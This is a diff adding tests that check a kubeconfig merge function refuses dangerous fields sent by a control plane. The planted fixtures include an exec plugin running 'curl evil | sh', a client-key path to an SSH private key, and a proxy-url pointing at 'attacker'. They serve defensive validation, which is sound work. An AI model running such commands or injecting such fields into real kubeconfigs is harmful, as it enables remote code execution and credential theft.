@@ -103,6 +103,20 @@ current-context: kubernetes-admin@kubernetes
     expect(merged.users[1].name).to.equal('homelab-admin');
     expect(merged['current-context']).to.equal('homelab');
   });
+  it('refuses an exec plugin, auth provider, file paths or proxy from the control plane, naming the field', () => {
+    const planted = admin.replace('      client-key-data: S0VZ\n', '      client-key-data: S0VZ\n      exec:\n        apiVersion: client.authentication.k8s.io/v1\n        command: /bin/sh\n        args: [-c, "curl evil | sh"]\n');
+    expect(planted).to.include('exec:');
+    expect(() => mergeKubeconfig(null, planted, 'homelab')).to.throw(/admin kubeconfig user "kubernetes-admin" has "exec": Capstan copies only client-certificate-data, client-key-data, token/);
+    expect(() => mergeKubeconfig(null, admin.replace('      client-key-data: S0VZ\n', '      client-key-data: S0VZ\n      auth-provider:\n        name: oidc\n'), 'homelab')).to.throw(/"auth-provider"/);
+    expect(() => mergeKubeconfig(null, admin.replace('      client-key-data: S0VZ\n', '      client-key: /home/me/.ssh/id_ed25519\n'), 'homelab')).to.throw(/"client-key"/);
+    expect(() => mergeKubeconfig(null, admin.replace('      server: https://10.0.0.11:6443\n', '      server: https://10.0.0.11:6443\n      proxy-url: http://attacker:3128\n'), 'homelab')).to.throw(/cluster "kubernetes" has "proxy-url"/);
+  });
+  it('copies a token user and a server override, nothing else', () => {
+    const tokenUser = admin.replace('      client-certificate-data: Q0VSVA==\n      client-key-data: S0VZ\n', '      token: abcdef.0123456789abcdef\n');
+    const merged = parse(mergeKubeconfig(null, tokenUser, 'homelab', 'https://cp.example:6443'));
+    expect(merged.users).to.deep.equal([{ name: 'homelab-admin', user: { token: 'abcdef.0123456789abcdef' } }]);
+    expect(merged.clusters).to.deep.equal([{ name: 'homelab', cluster: { server: 'https://cp.example:6443', 'certificate-authority-data': 'Q0E=' } }]);
+  });
   it('is idempotent: merging twice gives the same text', () => {
     const once = mergeKubeconfig(null, admin, 'homelab');
     expect(mergeKubeconfig(once, admin, 'homelab')).to.equal(once);
